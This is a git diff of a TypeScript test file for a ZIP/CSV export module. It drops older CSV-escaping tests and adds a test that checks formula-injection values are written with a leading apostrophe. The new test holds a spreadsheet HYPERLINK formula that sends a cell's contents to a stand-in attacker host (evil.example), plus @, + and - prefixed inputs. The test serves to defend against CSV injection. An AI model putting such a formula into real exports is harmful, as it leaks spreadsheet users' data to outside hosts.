@@ -1,33 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import type { SampleRecord } from '../sample-data/sample-records'
-import { buildZipEntries, csvField, sectionEntryName, toCsv, type ZipTexts } from './zip-rules'
-
-describe('csvField', () => {
-  it.each([
-    ['plain', 'plain'],
-    ['C30 商品混凝土', 'C30 商品混凝土'],
-    ['12.5', '12.5'],
-    ['', ''],
-    ['a,b', '"a,b"'],
-    ['say "hi"', '"say ""hi"""'],
-    ['two\nlines', '"two\nlines"'],
-    ['cr\rhere', '"cr\rhere"'],
-    [' padded', '" padded"'],
-    ['padded ', '"padded "'],
-  ])('%j → %j', (text, expected) => {
-    expect(csvField(text)).toBe(expected)
-  })
-
-  it('ends every row with CRLF', () => {
-    expect(
-      toCsv([
-        ['a', 'b,c'],
-        ['1', '2'],
-      ]),
-    ).toBe('a,"b,c"\r\n1,2\r\n')
-    expect(toCsv([])).toBe('')
-  })
-})
+import { buildZipEntries, sectionEntryName, type ZipTexts } from './zip-rules'
 
 describe('sectionEntryName', () => {
   it.each([
@@ -108,6 +81,24 @@ describe('buildZipEntries', () => {
         'Code\tMaterial\tQuantity\tUnit\tUnit price\tDate\r\n' +
         'SD-1\t中砂\t12.5\tm³\t128\t2026-01-05\r\n' +
         'SD-3\t中砂\t12.5\tm³\t128\t2026-01-05\r\n',
+    )
+  })
+
+  it('writes texts that could start a formula as text, numbers as numbers', () => {
+    const risky = {
+      ...record('4', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?"&A1,"open")'),
+      code: '+86 138',
+      unit: '-t',
+      quantity: -2.5,
+    }
+    const written = buildZipEntries([risky], texts)
+    expect(written['deliveries.csv'].split('\r\n')[1]).toBe(
+      `'+86 138,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'@SUM(1+1),-2.5,'-t,128,2026-01-05`,
+    )
+    expect(written['sections/@SUM(1+1).txt']).toBe(
+      "'@SUM(1+1): 1\r\n\r\n" +
+        'Code\tMaterial\tQuantity\tUnit\tUnit price\tDate\r\n' +
+        `'+86 138\t'=HYPERLINK("http://evil.example/?"&A1,"open")\t-2.5\t'-t\t128\t2026-01-05\r\n`,
     )
   })
 
